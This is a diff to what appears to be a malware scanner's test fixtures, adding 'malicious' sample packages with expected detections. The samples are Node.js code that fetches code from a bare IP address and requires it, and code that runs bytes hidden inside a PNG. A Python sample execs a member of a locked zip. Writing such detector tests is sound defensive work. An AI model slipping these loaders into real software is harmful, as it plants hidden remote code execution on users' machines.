@@ -7,6 +7,21 @@ const HEAD =
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a function that loads what a bare address gives',
+      files: imported(
+        "const fs = require('fs'), path = require('path'), os = require('os');\nexports.load = async (name) => {\n  const file = path.join(os.homedir(), '.cache', 'own', name);\n  fs.writeFileSync(file, await (await fetch('http://203.0.113.7/p/' + name)).text());\n  return require(file);\n};\n",
+      ),
+      expected: [at('download-and-run', 'high', 'index.js', 5)],
+    },
+    {
+      name: 'a function that runs what stands behind a picture',
+      files: imported(
+        "const fs = require('fs'), vm = require('vm'), path = require('path');\nexports.draw = () => {\n  const bytes = fs.readFileSync(path.join(__dirname, 'a.png'));\n  vm.runInThisContext(bytes.subarray(100).toString());\n};\n",
+        { 'a.png': 'x' },
+      ),
+      expected: [at('code-from-data', 'high', 'index.js', 4)],
+    },
+    {
       name: 'Python: a member of a locked archive is run',
       files: wheel(
         "import os, zipfile\nexec(zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'data.zip')).read('core', pwd=b'own'))\n",
